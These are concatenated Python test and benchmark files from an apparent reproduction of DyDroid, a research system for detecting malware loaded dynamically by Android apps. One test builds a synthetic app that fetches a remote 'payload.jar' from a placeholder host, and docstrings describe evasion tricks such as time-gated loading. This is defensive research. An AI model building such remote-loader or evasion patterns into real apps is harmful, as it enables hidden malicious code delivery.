from repro.dynamic.interceptor import PayloadKind
from repro.dynamic.provenance import Entity, Provenance
from repro.evolution import DriftSeverity, SnapshotWarehouse, diff_analyses
from repro.static_analysis.malware.droidnative import Detection
from repro.static_analysis.prefilter import PrefilterResult

hex_digests = st.text(alphabet="0123456789abcdef", min_size=64, max_size=64)

payload_paths = st.builds(
    "/data/data/com.example/files/{}.jar".format, identifiers
)


@st.composite
def payload_verdicts(draw):
    malicious = draw(st.booleans())
    return PayloadVerdict(
        path=draw(payload_paths),
        kind=draw(st.sampled_from(list(PayloadKind))),
        entity=draw(st.sampled_from(list(Entity))),
        provenance=draw(st.sampled_from(list(Provenance))),
        remote_sources=tuple(draw(st.lists(identifiers, max_size=2))),
        detection=Detection(
            family=draw(identifiers),
            score=0.9,
            matched_sample_id="s",
            matched_functions=1,
            total_functions=1,
        )
        if malicious
        else None,
        digest=draw(hex_digests),
    )


@st.composite
def app_analyses(draw):
    return AppAnalysis(
        package="com.example.app",
        metadata=AppMetadata(
            category="Tools",
            downloads=draw(st.integers(0, 10**7)),
            n_ratings=draw(st.integers(0, 10**5)),
            avg_rating=4.0,
            release_time_ms=draw(st.integers(10**12, 2 * 10**12)),
            version_code=draw(st.integers(1, 50)),
        ),
        decompile_failed=draw(st.booleans()),
        prefilter=PrefilterResult(
            has_dex_dcl=draw(st.booleans()),
            has_native_dcl=draw(st.booleans()),
            dex_call_site_classes=draw(st.lists(class_names, max_size=3)),
            native_call_site_classes=draw(st.lists(class_names, max_size=2)),
        ),
        payloads=draw(
            st.lists(payload_verdicts(), max_size=4, unique_by=lambda p: p.path)
        ),
    )


@given(app_analyses())
@settings(max_examples=60, deadline=None)
def test_diff_of_identical_snapshots_is_empty(app):
    diff = diff_analyses(app, app)
    assert diff.is_empty
    assert diff.severity is DriftSeverity.NONE


@given(app_analyses(), app_analyses(), payload_paths, hex_digests)
@settings(max_examples=60, deadline=None)
def test_adding_a_malicious_flip_never_lowers_severity(old, new, path, digest):
    # strip malicious payloads from both sides so the flip is the delta
    old.payloads = [p for p in old.payloads if p.detection is None]
    new.payloads = [p for p in new.payloads if p.detection is None]
    baseline = diff_analyses(old, new).severity
    new.payloads = new.payloads + [
        PayloadVerdict(
            path=path,
            kind=PayloadKind.DEX,
            entity=Entity.THIRD_PARTY,
            provenance=Provenance.LOCAL,
            detection=Detection("evil", 0.9, "s", 1, 1),
            digest=digest,
        )
    ]
    escalated = diff_analyses(old, new).severity
    assert escalated >= baseline
    assert escalated is DriftSeverity.CRITICAL


@given(app_analyses())
@settings(max_examples=25, deadline=None)
def test_warehouse_round_trip_is_byte_identical(app):
    import tempfile

    with tempfile.TemporaryDirectory() as tmp:
        path = "{}/w.jsonl".format(tmp)
        with SnapshotWarehouse(path) as warehouse:
            assert warehouse.append(app)
        with SnapshotWarehouse(path) as warehouse:
            stored = warehouse.get(app.package, app.version_code)
        assert json.dumps(stored, sort_keys=True) == json.dumps(
            app.to_dict(), sort_keys=True
        )
