"""Tests for obfuscation analysis: lexical, packing rules, reflection."""

import random

import pytest

from repro.android.apk import Apk
from repro.android.builders import MethodBuilder, class_builder
from repro.android.dex import DexFile
from repro.corpus.generator import CorpusGenerator
from repro.corpus.names import (
    allatori_identifier,
    obfuscated_identifier,
    proguard_identifier,
    readable_identifier,
)
from repro.static_analysis.decompiler import Decompiler
from repro.static_analysis.obfuscation.detector import (
    analyze_obfuscation,
    detect_dex_encryption,
    detect_reflection,
)
from repro.static_analysis.obfuscation.lexical import (
    identifier_is_meaningful,
    is_lexically_obfuscated,
    lexical_obfuscation_ratio,
    split_identifier,
)

from tests.helpers import build_manifest, downloads_and_loads_app


class TestIdentifierSplitting:
    def test_camel_case(self):
        assert split_identifier("loadBannerCache") == ("load", "banner", "cache")

    def test_snake_and_digits(self):
        assert split_identifier("get_user_2_id") == ("get", "user", "2", "id")

    def test_allcaps_run(self):
        assert split_identifier("HTTPClient") == ("http", "client")


class TestMeaningfulness:
    def test_dictionary_words(self):
        assert identifier_is_meaningful("downloadManager")
        assert identifier_is_meaningful("onClickListener")
        assert identifier_is_meaningful("UserProfileView")

    def test_proguard_names(self):
        assert not identifier_is_meaningful("a")
        assert not identifier_is_meaningful("ab")
        assert not identifier_is_meaningful("aaa")

    def test_allatori_names(self):
        assert not identifier_is_meaningful("xkqjw")
        assert not identifier_is_meaningful("bzrtk")

    def test_empty(self):
        assert not identifier_is_meaningful("")

    def test_ratio_and_verdict(self):
        readable = ["loadImage", "cacheManager", "updateView", "parseConfig"]
        obfuscated = ["a", "b", "aa", "qzx"]
        assert lexical_obfuscation_ratio(readable) == 1.0
        assert lexical_obfuscation_ratio(obfuscated) == 0.0
        assert not is_lexically_obfuscated(readable)
        assert is_lexically_obfuscated(obfuscated)
        assert lexical_obfuscation_ratio([]) == 1.0

    def test_generated_identifiers_match_detector(self):
        rng = random.Random(0)
        readable = [readable_identifier(rng, 2) for _ in range(100)]
        obfuscated = [obfuscated_identifier(rng, i) for i in range(100)]
        assert lexical_obfuscation_ratio(readable) > 0.9
        assert lexical_obfuscation_ratio(obfuscated) < 0.1

    def test_proguard_sequence(self):
        assert proguard_identifier(0) == "a"
        assert proguard_identifier(25) == "z"
        assert proguard_identifier(26) == "aa"

    def test_allatori_consonants_only(self):
        rng = random.Random(1)
        name = allatori_identifier(rng)
        assert all(c in "bcdfghjklmnpqrstvwxz" for c in name)


def _packed_record():
    generator = CorpusGenerator(seed=11)
    blueprints = generator.sample_blueprints(400)
    packed = [b for b in blueprints if b.is_packed]
    assert packed, "corpus too small to contain a packed app"
    return generator.build_record(packed[0])


class TestPackingDetector:
    def test_generated_packed_app_detected(self):
        record = _packed_record()
        program = Decompiler().decompile(record.apk)
        assert detect_dex_encryption(program)
        profile = analyze_obfuscation(record.apk, program)
        assert profile.dex_encryption

    def test_regular_dcl_app_not_packed(self):
        program = Decompiler().decompile(downloads_and_loads_app())
        assert not detect_dex_encryption(program)

    def test_rule1_requires_container_with_loader(self):
        record = _packed_record()
        apk = record.apk.clone()
        manifest = apk.manifest
        manifest.application_name = None  # rule 1 broken
        apk.put_manifest(manifest)
        assert not detect_dex_encryption(Decompiler().decompile(apk))

    def test_rule2_requires_missing_components(self):
        # An app whose container loads code but ships all its components in
        # plain sight is not "packed".
        record = _packed_record()
        apk = record.apk.clone()
        manifest = apk.manifest
        container = manifest.application_name
        program = Decompiler().decompile(apk)
        # declare only components that are actually present:
        from repro.android.manifest import Component, ComponentKind

        manifest.components = [Component(ComponentKind.ACTIVITY, container, True)]
        apk.put_manifest(manifest)
        assert not detect_dex_encryption(Decompiler().decompile(apk))

    def test_rule3_requires_native_decryptor(self):
        record = _packed_record()
        apk = record.apk.clone()
        program = Decompiler().decompile(apk)
        container_name = apk.manifest.application_name
        container = program.class_named(container_name)
        # strip the JNI load from the container body.
        for method in container.methods:
            method.instructions = [
                insn
                for insn in method.instructions
                if not (
                    insn.invoked is not None
                    and insn.invoked.name in ("loadLibrary", "load", "load0")
                )
            ]
        rebuilt = Apk.build(
            apk.manifest,
            dex_files=program.dex_files,
            assets={p: d for p, d in apk.asset_entries()},
        )
        assert not detect_dex_encryption(Decompiler().decompile(rebuilt))


class TestReflectionAndProfiles:
    def test_reflection_detected(self):
        cls = class_builder("t.R")
        b = MethodBuilder("m", "t.R", arity=1)
        method = b.call_virtual(
            "java.lang.Class", "getMethod", b.arg(0), b.new_string("x")
        )
        b.call_void("java.lang.reflect.Method", "invoke", method, b.new_null())
        b.ret_void()
        cls.add_method(b.build())
        apk = Apk.build(build_manifest("t"), dex_files=[DexFile(classes=[cls])])
        assert detect_reflection(Decompiler().decompile(apk))

    def test_no_reflection(self):
        assert not detect_reflection(Decompiler().decompile(downloads_and_loads_app()))

    def test_decompile_failure_profile(self):
        profile = analyze_obfuscation(downloads_and_loads_app(), None)
        assert profile.anti_decompilation
        assert not profile.lexical and not profile.dex_encryption

    def test_native_prefers_dynamic_confirmation(self):
        apk = downloads_and_loads_app()
        program = Decompiler().decompile(apk)
        profile = analyze_obfuscation(apk, program, dynamic_native_confirmed=True)
        assert profile.native
        profile = analyze_obfuscation(apk, program, dynamic_native_confirmed=False)
        assert not profile.native

    def test_techniques_listing(self):
        profile = analyze_obfuscation(
            downloads_and_loads_app(), Decompiler().decompile(downloads_and_loads_app())
        )
        assert "DEX encryption" not in profile.techniques()
