"""Tests for try/catch support in the ISA, VM, and tool round-trips."""

import pytest

from repro.android import bytecode as bc
from repro.android.apk import Apk
from repro.android.builders import MethodBuilder, class_builder
from repro.android.dex import DexFile
from repro.runtime.device import Device
from repro.runtime.instrumentation import Instrumentation
from repro.runtime.objects import VMException, VMObject
from repro.runtime.vm import DalvikVM
from repro.static_analysis.smali_asm import assemble, disassemble

from tests.helpers import build_manifest


def run_method(body, arity=0, args=None, device=None):
    cls = class_builder("t.Try")
    builder = MethodBuilder("go", "t.Try", arity=arity, is_static=True)
    body(builder)
    cls.add_method(builder.build())
    vm = DalvikVM(device or Device(), Instrumentation())
    vm.load_dex(DexFile(classes=[cls]))
    return vm, vm.run_entry("t.Try", "go", list(args or []))


class TestTryCatch:
    def test_catch_thrown_exception(self):
        def body(b):
            b.try_start("handler")
            b.throw_new("java.lang.IllegalStateException")
            b.label("handler")
            caught = b.move_exception()
            b.ret(caught)

        _, result = run_method(body)
        assert isinstance(result, VMObject)
        assert result.class_name == "java.lang.IllegalStateException"

    def test_no_exception_skips_nothing_but_try_end_pops(self):
        def body(b):
            b.try_start("handler")
            value = b.new_int(5)
            b.try_end()
            b.ret(value)
            b.label("handler")
            b.ret(b.new_int(-1))

        _, result = run_method(body)
        assert result == 5

    def test_uncaught_class_propagates(self):
        def body(b):
            b.try_start("handler", "java.io.IOException")
            b.throw_new("java.lang.IllegalStateException")
            b.label("handler")
            b.ret(b.new_int(0))

        with pytest.raises(VMException) as excinfo:
            run_method(body)
        assert excinfo.value.class_name == "java.lang.IllegalStateException"

    def test_io_exception_family_matching(self):
        def body(b):
            b.try_start("handler", "java.io.IOException")
            url = b.new_instance_of("java.net.URL", b.new_string("http://dead.example/x"))
            b.call_virtual("java.net.URL", "openStream", url)
            b.ret(b.new_int(0))
            b.label("handler")
            b.ret(b.new_int(42))

        _, result = run_method(body)
        assert result == 42

    def test_exception_from_nested_call_caught(self):
        cls = class_builder("t.Nested")
        inner = MethodBuilder("boom", "t.Nested", is_static=True)
        inner.throw_new("java.lang.RuntimeException")
        cls.add_method(inner.build())
        outer = MethodBuilder("safe", "t.Nested", is_static=True)
        outer.try_start("h")
        outer.call_void("t.Nested", "boom")
        outer.label("h")
        outer.ret(outer.new_int(7))
        cls.add_method(outer.build())
        vm = DalvikVM(Device(), Instrumentation())
        vm.load_dex(DexFile(classes=[cls]))
        assert vm.run_entry("t.Nested", "safe", []) == 7

    def test_nested_try_unwinds_innermost_first(self):
        def body(b):
            b.try_start("outer")
            b.try_start("inner", "java.io.IOException")
            b.throw_new("java.lang.IllegalStateException")  # inner doesn't match
            b.label("inner")
            b.ret(b.new_int(1))
            b.label("outer")
            b.ret(b.new_int(2))

        _, result = run_method(body)
        assert result == 2

    def test_caught_exception_carries_message(self):
        def body(b):
            b.try_start("handler")
            url = b.new_instance_of("java.net.URL", b.new_string("not a url"))
            b.label("handler")
            caught = b.move_exception()
            b.ret(caught)

        _, result = run_method(body)
        assert result.class_name == "java.net.MalformedURLException"
        assert "not a url" in result.fields["message"]

    def test_graceful_remote_loader_app(self):
        """The realistic App_L shape: catch IOException around the fetch so
        the app survives when the server withholds the payload."""
        from repro.corpus.behaviors import emit_download_to_file
        from repro.dynamic.engine import AppExecutionEngine, DynamicOutcome, EngineOptions

        package = "com.graceful.app"
        activity = "{}.MainActivity".format(package)
        cls = class_builder(activity, superclass="android.app.Activity")
        b = MethodBuilder("onCreate", activity, arity=1)
        b.try_start("offline", "java.io.IOException")
        emit_download_to_file(
            b, "http://cdn.example/payload.jar", "/data/data/{}/files/p.jar".format(package)
        )
        b.try_end()
        b.label("offline")
        b.ret_void()
        cls.add_method(b.build())
        apk = Apk.build(build_manifest(package), dex_files=[DexFile(classes=[cls])])
        # no remote resource hosted: the fetch 404s, the app catches.
        report = AppExecutionEngine(EngineOptions()).run(apk)
        assert report.outcome is DynamicOutcome.EXERCISED


class TestToolingSupport:
    def _dex(self):
        cls = class_builder("t.RT")
        b = MethodBuilder("m", "t.RT", is_static=True)
        b.try_start("h", "java.io.IOException")
        b.new_int(1)
        b.try_end()
        b.ret_void()
        b.label("h")
        b.move_exception()
        b.ret_void()
        cls.add_method(b.build())
        return DexFile(classes=[cls])

    def test_serialization_round_trip(self):
        dex = self._dex()
        assert DexFile.from_bytes(dex.to_bytes()).to_bytes() == dex.to_bytes()

    def test_smali_round_trip(self):
        dex = self._dex()
        assert assemble(disassemble(dex)).to_bytes() == dex.to_bytes()

    def test_mail_lifting_ignores_try_markers(self):
        from repro.static_analysis.malware.mail import MailKind, lift_dex_method

        method = self._dex().classes[0].methods[0]
        kinds = [s.kind for s in lift_dex_method(method)]
        # try-start/try-end lift to nothing; move-exception is an assign.
        assert kinds == [MailKind.ASSIGN, MailKind.HALT, MailKind.ASSIGN, MailKind.HALT]

    def test_acfg_handles_try_blocks(self):
        from repro.static_analysis.malware.acfg import acfg_for_dex_method, acfg_signature

        method = self._dex().classes[0].methods[0]
        graph = acfg_for_dex_method(method)
        assert acfg_signature(graph)  # hashes without error
