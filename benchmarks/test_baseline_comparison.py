"""Baseline comparison: DyDroid vs its related work (paper Section VI).

On identical inputs -- apps whose malware arrives through DCL -- the
reproduction quantifies the paper's qualitative comparisons:

- **RiskRanker-style static analysis** flags DCL presence and can scan
  locally packaged payloads, but misses code fetched remotely or hidden
  behind encryption;
- **Crowdroid-style syscall monitoring** may notice anomalous behaviour but
  cannot attribute it to loaded code or produce the binary;
- **DyDroid** intercepts the payload itself and classifies it.
"""

from benchmarks.paper_compare import fmt_compare, record_table
from repro.baselines.crowdroid import CrowdroidMonitor, SyscallVector
from repro.baselines.riskranker import RiskRankerStatic
from repro.corpus.generator import CorpusGenerator
from repro.dynamic.engine import AppExecutionEngine, EngineOptions
from repro.static_analysis.malware.droidnative import DroidNative
from repro.static_analysis.malware.families import training_corpus


def _scenario():
    """Malware carriers + benign DCL apps from one corpus."""
    generator = CorpusGenerator(seed=88)
    blueprints = generator.sample_blueprints(600)
    carriers = [generator.build_record(b) for b in blueprints if b.malware_family]
    benign = [
        generator.build_record(b)
        for b in blueprints
        if b.dex_dcl_reachable and not b.malware_family and not b.is_packed
    ][:12]
    return carriers, benign


def _run(record):
    return AppExecutionEngine(
        EngineOptions(
            remote_resources=record.remote_resources,
            companions=record.companions,
            release_time_ms=record.release_time_ms,
        )
    ).run(record.apk)


def test_baseline_comparison(benchmark):
    carriers, benign = _scenario()
    assert carriers

    detector = DroidNative()
    detector.train_corpus(training_corpus(samples_per_family=3, seed=0))
    static_baseline = RiskRankerStatic(detector)

    # -- RiskRanker: static-only ------------------------------------------------
    def static_pass():
        hits = 0
        for record in carriers:
            report = static_baseline.analyze(record.apk)
            hits += bool(report.detected_malware)
        return hits

    static_hits = benchmark(static_pass)

    # -- DyDroid: intercept + classify -------------------------------------------
    dydroid_hits = 0
    runs = []
    for record in carriers:
        report = _run(record)
        runs.append(report)
        for payload in report.intercepted:
            binary = payload.as_dex() or payload.as_native()
            if binary is not None and detector.detect(binary) is not None:
                dydroid_hits += 1
                break

    # -- Crowdroid: anomaly over syscall vectors ----------------------------------
    monitor = CrowdroidMonitor(threshold_sigmas=2.0)
    benign_vectors = [SyscallVector.from_report(_run(r)) for r in benign]
    monitor.fit(benign_vectors)
    crowd_flags = sum(
        monitor.is_anomalous(SyscallVector.from_report(r)) for r in runs
    )

    lines = [
        "baseline comparison on {} DCL-malware carriers".format(len(carriers)),
        fmt_compare(
            "RiskRanker-style static scan",
            "misses remote/hidden payloads",
            "{}/{} detected".format(static_hits, len(carriers)),
        ),
        fmt_compare(
            "Crowdroid-style syscall monitor",
            "coarse, no payload, no attribution",
            "{}/{} flagged anomalous".format(crowd_flags, len(carriers)),
        ),
        fmt_compare(
            "DyDroid (intercept + DroidNative)",
            "87/87 carriers in the paper",
            "{}/{} detected with payload in hand".format(dydroid_hits, len(carriers)),
        ),
    ]
    record_table("Baseline comparison (Section VI)", "\n".join(lines))

    # DyDroid catches every carrier; the static baseline misses the ones
    # whose payload is packaged locally-but-benign-looking or gated.
    assert dydroid_hits == len(carriers)
    assert static_hits <= dydroid_hits
    assert not CrowdroidMonitor.produces_payload_sample()
