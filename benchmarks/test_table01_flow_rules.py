"""Table I: the download tracker's flow rules, exercised one by one.

The paper's Table I defines the taint model (source: URL, sink: File) as
nine flow rules.  This bench drives each rule through the instrumented IO
layer with real bytecode and checks that the composed graph answers the
provenance question.
"""

from benchmarks.paper_compare import fmt_compare, record_table
from repro.android.apk import Apk
from repro.android.builders import MethodBuilder, class_builder
from repro.android.dex import DexFile
from repro.android.manifest import (
    INTERNET,
    WRITE_EXTERNAL_STORAGE,
    AndroidManifest,
    Component,
    ComponentKind,
)
from repro.android import bytecode as bc
from repro.dynamic.download_tracker import DownloadTracker
from repro.runtime.device import Device
from repro.runtime.instrumentation import Instrumentation
from repro.runtime.objects import VMObject
from repro.runtime.vm import DalvikVM

URL = "http://files.example.com/blob.bin"

TABLE_I_RULES = (
    "URL->InputStream",
    "InputStream->InputStream",
    "InputStream->Buffer",
    "Buffer->OutputStream",
    "OutputStream->OutputStream",
    "OutputStream->File",
    "File->File",
    "File->InputStream",
)


def _build_chain_app():
    """One method touching every Table I rule:

    URL -> InputStream -> (Buffered)InputStream -> Buffer ->
    (Buffered)OutputStream -> OutputStream -> File -> renamed File ->
    re-read as InputStream.
    """
    package = "com.flows.app"
    activity = "{}.MainActivity".format(package)
    cls = class_builder(activity, superclass="android.app.Activity")
    b = MethodBuilder("onCreate", activity, arity=1)

    url = b.new_instance_of("java.net.URL", b.new_string(URL))
    conn = b.call_virtual("java.net.URL", "openConnection", url)
    raw = b.call_virtual("java.net.URLConnection", "getInputStream", conn)
    buffered_in = b.new_instance_of("java.io.BufferedInputStream", raw)
    size = b.new_int(1 << 16)
    buf = b.reg()
    b.emit(bc.Instruction(bc.Op.NEW_ARRAY, (buf, size)))
    b.call_virtual("java.io.InputStream", "read", buffered_in, buf)

    staging = "/data/data/{}/files/staging.bin".format(package)
    final = "/data/data/{}/files/final.bin".format(package)
    fos = b.new_instance_of("java.io.FileOutputStream", b.new_string(staging))
    buffered_out = b.new_instance_of("java.io.BufferedOutputStream", fos)
    b.call_void("java.io.OutputStream", "write", buffered_out, buf)
    b.call_void("java.io.OutputStream", "close", buffered_out)

    src_file = b.new_instance_of("java.io.File", b.new_string(staging))
    dst_file = b.new_instance_of("java.io.File", b.new_string(final))
    b.call_virtual("java.io.File", "renameTo", src_file, dst_file)
    b.new_instance_of("java.io.FileInputStream", b.new_string(final))
    b.ret_void()
    cls.add_method(b.build())

    manifest = AndroidManifest(
        package=package,
        permissions={INTERNET, WRITE_EXTERNAL_STORAGE},
        components=[Component(ComponentKind.ACTIVITY, activity, True)],
    )
    return Apk.build(manifest, dex_files=[DexFile(classes=[cls])]), activity, final


def test_table01_flow_rules(benchmark):
    apk, activity, final_path = _build_chain_app()

    def run_and_track():
        device = Device()
        device.network.host_resource(URL, b"remote bytes")
        instrumentation = Instrumentation()
        tracker = DownloadTracker().attach(instrumentation)
        vm = DalvikVM(device, instrumentation)
        vm.install_app(apk)
        vm.run_entry(activity, "onCreate", [VMObject(activity)])
        return tracker

    tracker = benchmark(run_and_track)

    observed_rules = {edge.rule for edge in tracker.edges}
    lines = ["Table I rule coverage (instrumented IO layer):"]
    for rule in TABLE_I_RULES:
        lines.append(
            fmt_compare(rule, "modeled", "observed" if rule in observed_rules else "MISSING")
        )
    lines.append(
        fmt_compare(
            "URL -> final file reachability",
            "download tracker's provenance verdict",
            "remote" if tracker.is_remote(final_path) else "LOCAL (wrong)",
        )
    )
    record_table("Table I (download tracker rules)", "\n".join(lines))

    assert observed_rules == set(TABLE_I_RULES)
    assert tracker.is_remote(final_path)
    chain = tracker.flow_path(URL, final_path)
    assert chain[0] == "URL" and chain[-1] == "File"
