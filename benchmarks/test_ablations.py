"""Ablation benches for the design choices DESIGN.md calls out.

1. **Delete/rename blocking** -- without the interception queue's mutual
   exclusion, ad-library temp payloads vanish from the device after the
   load (the paper's motivation for hooking java.io.File).
2. **Stack-trace entity attribution** -- vs the naive "blame the app"
   baseline, which would call 100% of DCL developer-initiated and miss the
   paper's headline (>85% third-party).
3. **ACFG match threshold** -- sweep the DroidNative threshold against
   degraded variants: high thresholds miss mutated malware, low thresholds
   start flagging benign payloads.
4. **Monkey event budget** -- lifecycle-only fuzzing misses the DCL that
   only fires from UI handlers.
"""

import pytest

from benchmarks.paper_compare import fmt_compare, record_table
from repro.corpus.generator import generate_corpus
from repro.dynamic.engine import AppExecutionEngine, EngineOptions
from repro.dynamic.provenance import Entity
from repro.static_analysis.malware import families
from repro.static_analysis.malware.droidnative import DroidNative


def _dcl_records(n=120, seed=77):
    corpus = generate_corpus(n, seed=seed)
    return [
        r for r in corpus
        if r.blueprint.dex_dcl_reachable or r.blueprint.native_dcl_reachable
    ]


def _run(record, **options):
    engine = AppExecutionEngine(
        EngineOptions(
            remote_resources=record.remote_resources,
            companions=record.companions,
            release_time_ms=record.release_time_ms,
            **options,
        )
    )
    return engine.run(record.apk)


def test_ablation_delete_blocking(benchmark):
    """On-device survival of loaded payload files, blocking on vs off.

    The Google-Ads-like SDK deletes its ``cache/ad*`` payload after the
    merge; with the java.io.File hooks disabled, those files are gone
    before any non-synchronous dump could read them.
    """
    records = [r for r in _dcl_records() if r.blueprint.uses_google_ads][:10]
    assert records

    def survival(block):
        survived = total = 0
        for record in records:
            report = _run(record, block_file_ops=block)
            total += len(report.intercepted)
            survived += len(report.surviving_paths)
        return survived, total

    on_survived, on_total = benchmark(survival, True)
    off_survived, off_total = survival(False)

    lines = [
        "ablation 1: delete/rename blocking (temp-file ad SDK apps)",
        fmt_compare(
            "device-side payloads kept (blocking on)",
            "100% (paper's design)",
            "{}/{}".format(on_survived, on_total),
        ),
        fmt_compare(
            "device-side payloads kept (blocking off)",
            "collapses for temp files",
            "{}/{}".format(off_survived, off_total),
        ),
    ]
    record_table("Ablation: interception blocking", "\n".join(lines))
    assert on_total and on_survived == on_total
    assert off_survived < off_total


def test_ablation_entity_attribution(benchmark, report):
    """Stack-trace call sites vs the 'blame the app' baseline."""
    apps = [a for a in report.apps if a.dex_intercepted or a.native_intercepted]

    def third_party_share():
        third = sum(
            1
            for a in apps
            if Entity.THIRD_PARTY in (a.dex_entities() | a.native_entities())
        )
        return third / len(apps)

    measured = benchmark(third_party_share)
    lines = [
        "ablation 2: entity attribution",
        fmt_compare("third-party share (stack traces)", "> 85%", "{:.2%}".format(measured)),
        fmt_compare("third-party share (naive baseline)", "0% (all blamed on app)", "0.00%"),
    ]
    record_table("Ablation: entity attribution", "\n".join(lines))
    assert measured > 0.80


@pytest.mark.parametrize("drop_fraction,expected_detected", [(0.0, True), (0.15, False)])
def test_ablation_acfg_threshold(benchmark, drop_fraction, expected_detected):
    """At the paper's 90% threshold, mild variants match and heavily
    mutated ones drop out; a lowered threshold recovers them (at FP risk)."""
    detector = DroidNative(threshold=0.90)
    detector.train(families.SWISS_CODE_MONKEYS, families.swiss_code_monkeys_dex(0))
    sample = families.swiss_code_monkeys_dex(seed=99)
    if drop_fraction:
        sample = families.degrade(sample, drop_fraction, seed=1)

    detection = benchmark(detector.detect, sample)
    assert (detection is not None) == expected_detected

    if not expected_detected:
        relaxed = DroidNative(threshold=0.5)
        relaxed.train(families.SWISS_CODE_MONKEYS, families.swiss_code_monkeys_dex(0))
        assert relaxed.detect(sample) is not None
        lines = [
            "ablation 3: ACFG match threshold",
            fmt_compare("15%-mutated variant @ threshold 0.90", "missed", "missed"),
            fmt_compare("15%-mutated variant @ threshold 0.50", "caught", "caught"),
        ]
        record_table("Ablation: ACFG threshold", "\n".join(lines))


def test_ablation_prefilter_reachability(benchmark):
    """Existence prefilter (the paper's choice) vs a reachability-pruned one.

    Reachability pruning skips dynamic runs on dead-DCL apps, but a static
    call graph cannot see reflection-driven control flow -- the paper chose
    existence to never miss a reachable site.  Measured on generated apps
    (whose DCL call chains are direct), pruning saves the dead-code runs at
    zero misses; the bench records both numbers.
    """
    from repro.corpus.generator import CorpusGenerator
    from repro.static_analysis.callgraph import prefilter_reachable
    from repro.static_analysis.decompiler import Decompiler
    from repro.static_analysis.prefilter import prefilter

    generator = CorpusGenerator(seed=90)
    blueprints = generator.sample_blueprints(300)
    records = [
        generator.build_record(b)
        for b in blueprints
        if b.has_dex_dcl_code and not b.anti_decompilation and not b.is_packed
    ][:60]
    decompiler = Decompiler()

    def compare():
        existence = reachable = missed = 0
        for record in records:
            program = decompiler.decompile(record.apk)
            flagged = prefilter(program).has_dex_dcl
            pruned = prefilter_reachable(program).has_dex_dcl
            existence += flagged
            reachable += pruned
            if record.blueprint.dex_dcl_reachable and not pruned:
                missed += 1
        return existence, reachable, missed

    existence, reachable, missed = benchmark(compare)
    lines = [
        "ablation 5: prefilter existence vs reachability ({} DCL-code apps)".format(len(records)),
        fmt_compare("flagged by existence check (paper)", "all DCL-code apps", str(existence)),
        fmt_compare("flagged by reachability pruning", "fewer (dead code skipped)", str(reachable)),
        fmt_compare("reachable sites missed by pruning", "0 here; >0 with reflection", str(missed)),
        fmt_compare("dynamic runs saved", "-", str(existence - reachable)),
    ]
    record_table("Ablation: prefilter reachability", "\n".join(lines))
    assert existence == len(records)
    assert reachable < existence
    assert missed == 0


def test_ablation_monkey_budget(benchmark):
    """Lifecycle-only fuzzing misses UI-handler-triggered DCL."""
    records = _dcl_records(n=300, seed=55)
    ui_triggered = [r for r in records if r.blueprint.dcl_trigger == "ui"][:8]
    launch_triggered = [r for r in records if r.blueprint.dcl_trigger == "launch"][:8]
    assert ui_triggered and launch_triggered

    def intercept_rate(sample, budget):
        hits = 0
        for record in sample:
            report = _run(record, monkey_budget=budget)
            hits += bool(report.intercepted)
        return hits / len(sample)

    zero_budget_ui = intercept_rate(ui_triggered, 0)
    full_budget_ui = benchmark(intercept_rate, ui_triggered, 25)
    launch_rate = intercept_rate(launch_triggered, 0)

    def mean_coverage(sample, budget):
        reports = [_run(record, monkey_budget=budget) for record in sample]
        return sum(r.method_coverage for r in reports) / len(reports)

    coverage_zero = mean_coverage(ui_triggered, 0)
    coverage_full = mean_coverage(ui_triggered, 25)

    lines = [
        "ablation 4: monkey event budget (the paper's code-coverage discussion)",
        fmt_compare("launch-triggered DCL @ budget 0", "caught (ads fire at launch)", "{:.0%}".format(launch_rate)),
        fmt_compare("UI-triggered DCL @ budget 0", "missed", "{:.0%}".format(zero_budget_ui)),
        fmt_compare("UI-triggered DCL @ budget 25", "caught", "{:.0%}".format(full_budget_ui)),
        fmt_compare("mean method coverage @ budget 0 vs 25", "coverage grows with events",
                    "{:.0%} -> {:.0%}".format(coverage_zero, coverage_full)),
    ]
    record_table("Ablation: monkey budget", "\n".join(lines))

    assert launch_rate == 1.0
    assert zero_budget_ui == 0.0
    assert full_budget_ui == 1.0
    assert coverage_full > coverage_zero


def test_ablation_triage_gate(benchmark, tmp_path):
    """Tier-0 triage off vs on: analyzer invocations, wall clock, quality.

    The gate only pays off if it skips most tier-1 analyzer work without
    giving up hazard recall; this bench records both sides of that trade
    in one table.
    """
    import time

    from repro.core.config import DyDroidConfig
    from repro.core.pipeline import DyDroid
    from repro.observe import MetricsRegistry
    from repro.triage.harness import evaluate_triage, train_triage_model

    model, _ = train_triage_model(60, seed=7)
    model_path = tmp_path / "triage-model.json"
    model.save(str(model_path))
    corpus = generate_corpus(40, seed=91)

    def measure(triage_model):
        registry = MetricsRegistry()
        config = DyDroidConfig(
            train_samples_per_family=2, run_replays=False,
            triage_model=triage_model,
        )
        pipeline = DyDroid(config, metrics=registry)
        started = time.perf_counter()
        try:
            for record in corpus:
                pipeline.analyze_app(record)
        finally:
            pipeline.close()
        invocations = registry.counter_value(
            "analyzer.droidnative.invocations"
        ) + registry.counter_value("analyzer.flowdroid.invocations")
        return time.perf_counter() - started, invocations, registry

    off_wall, off_invocations, _ = measure("")
    on_wall, on_invocations, on_registry = benchmark(measure, str(model_path))
    evaluation = evaluate_triage(model, 60, seed=7)

    gated = on_registry.counter_value("triage.gated")
    fallthrough = on_registry.counter_value("triage.fallthrough")
    lines = [
        "ablation 6: tier-0 triage gate ({} apps, model from seed-7 split)".format(
            len(corpus)
        ),
        fmt_compare("analyzer invocations (triage off)", "every payload",
                    str(off_invocations)),
        fmt_compare("analyzer invocations (triage on)", "fall-throughs only",
                    str(on_invocations)),
        fmt_compare("corpus wall clock off -> on", "gate is cheaper",
                    "{:.2f}s -> {:.2f}s".format(off_wall, on_wall)),
        fmt_compare("full analyzers on store misses", "<= 50%",
                    "{}/{}".format(fallthrough, gated)),
        fmt_compare("held-out hazard recall", ">= 95%",
                    "{:.1%}".format(evaluation.recall)),
        fmt_compare("held-out precision", "high", "{:.1%}".format(evaluation.precision)),
    ]
    record_table("Ablation: triage gate", "\n".join(lines))

    assert on_invocations < off_invocations
    assert gated and fallthrough <= gated / 2
    assert evaluation.recall >= 0.95
