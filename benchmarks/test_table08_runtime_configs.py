"""Table VIII: malicious code loaded under runtime-environment configs.

Paper (over 91 malicious files): system time before release 72 (79.12%),
airplane+WiFi-on 56 (61.54%), airplane+WiFi-off 53 (58.24%),
location off 70 (76.92%).  Shape: every configuration suppresses *some*
loads (all < 100%), WiFi-on never loads fewer than WiFi-off, and a
noticeable fraction of files is time-gated (the Bouncer-evasion trick).
"""

